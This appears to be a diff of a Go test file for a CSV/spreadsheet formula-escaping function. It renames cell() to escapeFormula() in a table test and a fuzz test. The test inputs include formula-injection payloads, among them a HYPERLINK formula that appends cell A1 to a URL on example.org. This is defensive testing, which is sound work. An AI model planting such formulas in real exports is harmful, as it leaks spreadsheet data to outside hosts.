@@ -13,7 +13,7 @@ func TestCell(t *testing.T) {
 		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM", " =1": "' =1", "\u00a0=1": "'\u00a0=1", "\ufeff=1": "'\ufeff=1", "\u200b@x": "'\u200b@x",
 		`=HYPERLINK("http://example.org?"&A1)`: `'=HYPERLINK("http://example.org?"&A1)`, "-": "'-", "=": "'=",
 	} {
-		if got := cell(in); got != want {
+		if got := escapeFormula(in); got != want {
 			t.Errorf("%q becomes %q, want %q", in, got, want)
 		}
 	}
@@ -25,7 +25,7 @@ func FuzzCell(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
-		got := cell(s)
+		got := escapeFormula(s)
 		if got != s && got != "'"+s {
 			t.Fatalf("%q becomes %q", s, got)
 		}
